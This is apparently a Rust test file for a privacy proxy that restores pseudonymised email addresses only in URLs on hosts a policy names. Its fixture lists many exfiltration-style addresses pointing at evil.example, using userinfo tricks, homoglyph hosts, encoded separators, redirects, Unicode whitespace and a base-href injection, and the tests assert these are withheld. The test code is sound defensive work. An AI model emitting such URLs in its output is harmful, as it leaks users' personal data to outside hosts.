//! Values in the addresses of an answer: where the officer names the host, and nowhere else.

use super::common::scripted::{self, Asked, Step, delta, echo};
use super::common::{EMAIL, House, Plot};

/// The value as it stands in a URL.
const ENCODED: &str = "camille.aubertin%40example.com";

/// An answer with addresses; `§` stands where a value may be put, `¤` where it may not.
const ANSWER: &str = "\u{2014} ![a](https://wiki.example/?q=§&again=§) [b](https://intranet.example:8443/people/§/edit), \
    HTTPS://Wiki.Example/#§ and <a href=\"https://wiki.exämple/x?a=1&amp;q=§\">c</a>; never https://evil.example/?q=¤ nor \
    https://a.wiki.example/¤ https://wiki.example.evil.example/¤ https://intranet.example/¤ http://wiki.example/¤ \
    https://wiki.example@evil.example/?x=¤ https://wiki.example\\@evil.example/¤ https://w\u{456}ki.example/¤ \
    https://wiki%2Eexample/¤ https://¤@wiki.example/ https://¤.wiki.example/ https://wiki.example?q=¤ //wiki.example/¤ \
    https://wiki.example/?to=https://evil.example/¤ https://wiki.example/?to=%2F%2Fevil.example%2F¤ \
    ![x](https://evil.example/?q=\u{a0}¤) <img src=https://evil.example/?q=\u{2028}¤> [r]: https://evil.example/?q=\u{3000}¤ \
    https://evil.example/?q=\u{85}\u{200b}¤ <img src=\"https:\t//evil.example/?q= ¤\"> https://wiki.example/?q=\u{202f}¤ \
    <img src=\"\\\\evil.example/?q= ¤\"> ![x](\\/evil.example/?q=¤) <base href=\"//evil.example\"> <img src=\"?q= ¤\"> ";

/// The answer, its pseudonym taken from what was asked, in pieces of so many characters when it is streamed.
fn answering(size: usize) -> impl Fn(&Asked) -> Vec<Step> + Send + Sync + 'static {
    move |asked: &Asked| {
        let token = asked.said();
        let text = format!("{} mail {token}", ANSWER.replace(['§', '¤'], &token));
        if asked.json()["stream"] != true {
            let body =
                asked.body.replace(&token, &text.replace('\\', "\\\\").replace('"', "\\\"").replace('\t', "\\t"));
            return echo(&Asked { body, ..asked.clone() });
        }
        let chars: Vec<char> = text.chars().collect();
        let events = chars.chunks(size).map(|piece| delta(&piece.iter().collect::<String>()));
        let chunks = events.chain(["data: [DONE]\n\n".to_owned(), String::new()]);
        std::iter::once(scripted::stream()).chain(chunks.map(|chunk| Step::Chunk(chunk.into_bytes()))).collect()
    }
}

/// A house whose only backend is foreign, and whose sheet says this besides.
async fn house(line: &str) -> (House, scripted::Scripted) {
    let mut plot = Plot::new().await;
    plot.only(&["us-cloud"]);
    let server = plot.script("us-cloud", answering(1)).await;
    let sheet = plot.path("policies/main.policy");
    let text = std::fs::read_to_string(&sheet).unwrap();
    std::fs::write(&sheet, format!("{text}\n{line}\n")).unwrap();
    (plot.open().await, server)
}

/// What the client reads.
async fn read(house: &House, stream: bool) -> String {
    let answer = house.client.chat(EMAIL, stream).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    if stream {
        answer.streamed()
    } else {
        answer.json()["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn values_go_into_the_addresses_of_hosts_that_the_sheet_names() {
    let line = "allow values in addresses of \"wiki.example\", \"intranet.example:8443\", \"wiki.exämple\"";
    let (house, server) = house(line).await;
    let (named, others) = (ANSWER.matches('§').count(), ANSWER.matches('¤').count());
    let mut asked = 0;
    for (size, stream) in [(1, false), (1, true), (2, true), (3, true), (7, true), (50, true)] {
        server.set_script(answering(size));
        let said = read(&house, stream).await;
        let token = server.asked().pop().unwrap().said();
        let expected = format!("{} mail {EMAIL}", ANSWER.replace('§', ENCODED).replace('¤', &token));
        assert_eq!(said, expected, "in pieces of {size}, streamed: {stream}");
        asked += 1;
        let outcome = house.outcomes(asked).await.pop().unwrap();
        let counted = (&outcome["restored"], &outcome["withheld_tokens"]);
        assert_eq!(counted, (&(named + 1).into(), &others.into()), "{outcome}");
    }
}

/// The line alone opens it: no host that a tool may reach, and none of a backend, is one into whose addresses values go.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_line_no_address_has_a_value() {
    let (house, server) = house("allow hosted tool mcp at \"wiki.example\"").await;
    for stream in [false, true] {
        let said = read(&house, stream).await;
        let token = server.asked().pop().unwrap().said();
        assert_eq!(said, format!("{} mail {EMAIL}", ANSWER.replace(['§', '¤'], &token)));
    }
}
